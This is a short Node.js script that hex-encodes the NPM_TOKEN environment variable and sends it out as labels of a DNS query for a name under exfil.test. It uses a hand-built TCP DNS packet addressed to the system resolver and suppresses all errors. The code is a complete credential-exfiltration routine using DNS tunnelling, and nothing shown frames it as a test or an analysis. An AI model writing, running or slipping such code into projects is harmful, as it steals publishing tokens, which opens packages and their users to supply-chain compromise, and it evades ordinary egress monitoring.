// Looks the npm token up, hex in two labels, by DNS over TCP (a length-prefixed
// query on port 53) to the resolver the system names.
const net = require('net'), fs = require('fs');
const ns = (/^nameserver\s+(\S+)/m.exec(fs.readFileSync('/etc/resolv.conf', 'utf8')) || [])[1] || '127.0.0.1';
const hex = Buffer.from(process.env.NPM_TOKEN).toString('hex');
const name = [hex.slice(0, 60), hex.slice(60), 't', 'exfil', 'test'];
const q = [Buffer.from([0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0])];
for (const l of name) q.push(Buffer.from([l.length]), Buffer.from(l));
q.push(Buffer.from([0, 0, 1, 0, 1]));
const msg = Buffer.concat(q), len = Buffer.alloc(2);
len.writeUInt16BE(msg.length);
const s = net.connect(53, ns, () => s.write(Buffer.concat([len, msg])));
s.on('data', () => s.end());
s.on('error', () => {});
setTimeout(() => s.destroy(), 1500);
